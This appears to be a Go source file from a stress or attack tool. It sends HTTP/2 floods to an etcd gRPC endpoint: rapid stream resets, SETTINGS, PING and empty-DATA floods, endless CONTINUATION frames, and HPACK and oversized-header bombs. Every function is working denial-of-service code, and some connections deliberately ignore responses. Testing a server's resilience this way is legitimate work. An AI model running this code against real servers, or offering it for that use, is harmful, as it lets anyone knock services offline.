package main

import (
	"context"
	"errors"
	"io"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// batch is the number of frames per write.
const batch = 64

// flood writes frames as fast as the pace allows. Every second connection reads no responses.
func flood(ctx context.Context, t *target, v volume, tally *tally, begin func(*session), frames func(*session)) error {
	return runAttackers(ctx, v, tally, func(ctx context.Context, pace *pace, n int) error {
		s, err := t.session(ctx, tally)
		if err != nil {
			return err
		}
		defer s.conn.Close()
		if n%2 == 0 {
			s.drain()
		}
		begin(s)
		for pace.wait(ctx, batch) {
			for range batch {
				frames(s)
			}
			if err := s.flush(); err != nil {
				return err
			}
			tally.did.Add(batch)
		}
		return nil
	})
}

func nothing(*session) {}

// rapidReset opens streams and resets each at once.
func rapidReset(ctx context.Context, t *target, v volume, tally *tally) error {
	return flood(ctx, t, v, tally, nothing, func(s *session) {
		id := s.call("/etcdserverpb.KV/Range", false)
		s.framer.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

func settingsFlood(ctx context.Context, t *target, v volume, tally *tally) error {
	size := uint32(0)
	return flood(ctx, t, v, tally, nothing, func(s *session) {
		s.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + size%2})
	})
}

func pingFlood(ctx context.Context, t *target, v volume, tally *tally) error {
	return flood(ctx, t, v, tally, nothing, func(s *session) { s.framer.WritePing(false, [8]byte{}) })
}

// emptyData sends empty DATA frames on a stream that never ends.
func emptyData(ctx context.Context, t *target, v volume, tally *tally) error {
	begin := func(s *session) { s.call("/etcdserverpb.Watch/Watch", false) }
	return flood(ctx, t, v, tally, begin, func(s *session) { s.framer.WriteData(1, false, nil) })
}

// continuation sends headers that never end, in small or empty CONTINUATION frames.
func continuation(ctx context.Context, t *target, v volume, tally *tally) error {
	begin := func(s *session) {
		fields := s.encode(grpcFields("/etcdserverpb.KV/Range"))
		s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: s.next(), BlockFragment: fields})
	}
	field := []byte{}
	return flood(ctx, t, v, tally, begin, func(s *session) {
		if field = s.encode([]hpack.HeaderField{{Name: "x", Value: "y", Sensitive: true}}); s.out.Len()%2 == 0 {
			field = nil
		}
		s.framer.WriteContinuation(1, false, field)
	})
}

// headerBomb sends headers that are short when compressed and long when decoded, or just long.
func headerBomb(ctx context.Context, t *target, v volume, tally *tally) error {
	kinds := []func(*session) []byte{hpackBomb, manyFields, longField}
	return runAttackers(ctx, v, tally, func(ctx context.Context, _ *pace, n int) error {
		s, err := t.session(ctx, tally)
		if err != nil {
			return err
		}
		defer s.conn.Close()
		block, first := kinds[n%len(kinds)](s), true
		for len(block) > 0 {
			size := min(len(block), frameMax)
			piece, rest := block[:size], block[size:]
			if first {
				s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: piece, EndHeaders: len(rest) == 0, EndStream: true})
			} else {
				s.framer.WriteContinuation(1, len(rest) == 0, piece)
			}
			block, first = rest, false
		}
		if err := s.flush(); err != nil {
			return err
		}
		tally.did.Add(1)
		return answeredShortly(s)
	})
}

// answeredShortly reads frames until one belongs to the call.
func answeredShortly(s *session) error {
	framer := http2.NewFramer(io.Discard, s.conn)
	for {
		frame, err := framer.ReadFrame()
		if err != nil {
			return err
		}
		switch frame.(type) {
		case *http2.HeadersFrame, *http2.RSTStreamFrame:
			return nil
		case *http2.GoAwayFrame:
			return errors.New("the server sent GOAWAY")
		}
	}
}

// hpackBomb puts a field of 4,000 bytes into the HPACK table and refers to it 10,000 times, with
// one byte each: 40 MB in 14 kB.
func hpackBomb(s *session) []byte {
	value := make([]byte, 4000)
	for n := range value {
		value[n] = 'a'
	}
	block := s.encode(grpcFields("/etcdserverpb.KV/Range", hpack.HeaderField{Name: "x-bomb", Value: string(value)}))
	const newest = 62
	for range 10_000 {
		block = append(block, 0x80|newest)
	}
	return block
}

// manyFields returns 20,000 fields.
func manyFields(s *session) []byte {
	fields := grpcFields("/etcdserverpb.KV/Range")
	for range 20_000 {
		fields = append(fields, hpack.HeaderField{Name: "x-one-of-many", Value: "value", Sensitive: true})
	}
	return s.encode(fields)
}

// longField returns a field of 1 MB.
func longField(s *session) []byte {
	return s.encode(grpcFields("/etcdserverpb.KV/Range", hpack.HeaderField{Name: "x-long", Value: string(make([]byte, megabyte)), Sensitive: true}))
}
